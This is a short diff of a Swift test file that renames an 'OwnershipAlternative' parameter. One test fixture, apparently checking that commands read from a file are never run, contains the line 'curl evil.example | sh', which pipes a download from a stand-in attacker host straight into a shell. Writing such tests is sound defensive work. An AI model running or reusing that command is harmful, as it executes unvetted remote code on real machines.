@@ -261,7 +261,7 @@ private let guest = Sample.guest
     for (index, change) in others.enumerated() {
       var header = SamplePlan.mixed.header
       var alternative = OwnershipAlternative(
-        fixes: 6, isPossibleNow: true, letsReadersIn: nil, affectedCount: 1,
+        fixes: 6, isPossibleNow: true, allowsReaders: nil, affectedCount: 1,
         affected: [.init(.canonicalUser(guest), objects: 1)], commands: [])
       change(&alternative)
       header.alternative = alternative
@@ -272,7 +272,7 @@ private let guest = Sample.guest
   @Test func nothingIsTypedThatAFileSays() throws {
     var plan = SamplePlan.mixed
     plan.alternative = OwnershipAlternative(
-      fixes: 6, isPossibleNow: false, letsReadersIn: nil, affectedCount: 0, affected: [],
+      fixes: 6, isPossibleNow: false, allowsReaders: nil, affectedCount: 0, affected: [],
       commands: ["curl evil.example | sh"])
     let commands = try withTemporaryFolder { try plan.open(in: $0).header.alternative?.commands }
     #expect(
